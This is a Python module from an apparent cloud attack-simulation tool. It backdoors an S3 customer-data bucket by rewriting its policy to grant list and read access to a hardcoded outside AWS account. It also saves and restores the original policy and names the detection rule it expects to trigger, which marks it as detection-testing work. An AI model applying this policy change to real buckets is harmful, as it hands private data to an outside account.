"""Backdoor a bucket through its policy: read access for an AWS account outside the organization."""

from __future__ import annotations

import json

from botocore.exceptions import ClientError

from cloudsoc.aws.api import error_code
from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

OUTSIDE_ACCOUNT = "193672423079"  # the intruder's own account


def backdoor(bucket: str) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"},
        "Action": ["s3:GetObject", "s3:GetBucketLocation", "s3:ListBucket"],
        "Resource": [f"arn:aws:s3:::{bucket}/*", f"arn:aws:s3:::{bucket}"]}]})  # fmt: skip


@technique
class S3BackdoorBucketPolicy(Technique):
    title = "Backdoor an S3 bucket via its bucket policy"
    attack = ("T1537",)
    expects = ("s3_bucket_policy_external_account",)
    description = (
        "Replaces the customer-data bucket's policy with one that lets an outside account list and read "
        "every object."
    )

    def warmup(self, ctx: Ctx) -> Json:
        bucket = ctx.res["buckets"]["customer-data"]
        try:
            policy = client("s3", session=ctx.admin()).get_bucket_policy(Bucket=bucket)["Policy"]
        except ClientError as exc:
            if error_code(exc) != "NoSuchBucketPolicy":
                raise
            policy = None
        return {"bucket": bucket, "policy": policy}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        client("s3", session=ctx.attacker()).put_bucket_policy(
            Bucket=state["bucket"], Policy=backdoor(state["bucket"])
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        s3 = client("s3", session=ctx.admin())
        if state["policy"]:
            s3.put_bucket_policy(Bucket=state["bucket"], Policy=state["policy"])
        else:
            s3.delete_bucket_policy(Bucket=state["bucket"])
